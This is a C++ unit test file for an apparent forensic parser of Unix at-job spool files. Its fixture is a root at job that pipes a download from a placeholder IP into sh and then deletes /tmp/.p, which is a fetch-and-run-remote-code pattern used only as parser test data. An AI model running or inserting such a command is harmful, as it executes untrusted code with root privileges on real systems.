// SPDX-License-Identifier: Apache-2.0
#include <gtest/gtest.h>

#include "unit/parsers/text_parse_util.hpp"

namespace deadbox::parsers {
namespace {

// Layout written by Debian's at 3.2.5 (`echo 'curl …|sh' | at now + 1 hour` as root).
constexpr std::string_view kAtJob = R"(#!/bin/sh
# atrun uid=0 gid=0
# mail root 0
umask 22
SHELL=/bin/bash; export SHELL
HOME=/root; export HOME
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin; export PATH
cd /root || {
	 echo 'Execution directory inaccessible' >&2
	 exit 1
}
${SHELL:-/bin/sh} << 'marcinDELIMITER5e6f0f1a'
curl -s http://203.0.113.9/p | sh
rm -f /tmp/.p

marcinDELIMITER5e6f0f1a
)";

TEST(AtJobParser, ExtractsBodyAfterPreambleWithOwnerAndTime) {
  // Name = queue a, job 0x0001b, run time 0x01c6c0f0 minutes after the epoch.
  const auto r = text_testing::parse("unix/at_job", kAtJob, "/var/spool/cron/atjobs/a0001b01c6c0f0");
  const auto& recs = r.of("unix/at_job");
  ASSERT_EQ(recs.size(), 2u);
  EXPECT_EQ(recs[0].str("command"), "curl -s http://203.0.113.9/p | sh");
  EXPECT_EQ(recs[0].line, 13u);
  EXPECT_EQ(recs[0].str("user"), "root");
  EXPECT_EQ(recs[0].i64("uid"), 0);
  EXPECT_EQ(recs[0].time("time"), int64_t{0x01c6c0f0} * 60 * 1'000'000'000LL);
  EXPECT_EQ(recs[1].str("command"), "rm -f /tmp/.p");
  EXPECT_EQ(r.diag.entries().size(), 0u);
}

TEST(AtJobParser, OldLayoutWithoutHereDocAndUnterminatedHereDoc) {
  const auto old = text_testing::parse(
      "unix/at_job", "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail bob 0\numask 22\n"
                     "HOME=/home/bob; export HOME\ncd /home/bob || {\n exit 1\n}\n/tmp/x &\n",
      "/var/spool/at/b00002019a2b3g");
  ASSERT_EQ(old.of("unix/at_job").size(), 1u);
  EXPECT_EQ(old.of("unix/at_job")[0].str("command"), "/tmp/x &");
  EXPECT_EQ(old.of("unix/at_job")[0].i64("uid"), 1000);
  EXPECT_EQ(old.of("unix/at_job")[0].time("time"), std::nullopt);  // not a valid job name
  const auto cut = text_testing::parse("unix/at_job", "${SHELL:-/bin/sh} << 'D'\nid\n",
                                       "/var/spool/cron/atjobs/x");
  ASSERT_EQ(cut.of("unix/at_job").size(), 1u);
  EXPECT_EQ(cut.diags("at_unterminated"), 1u);
}

}  // namespace
}  // namespace deadbox::parsers
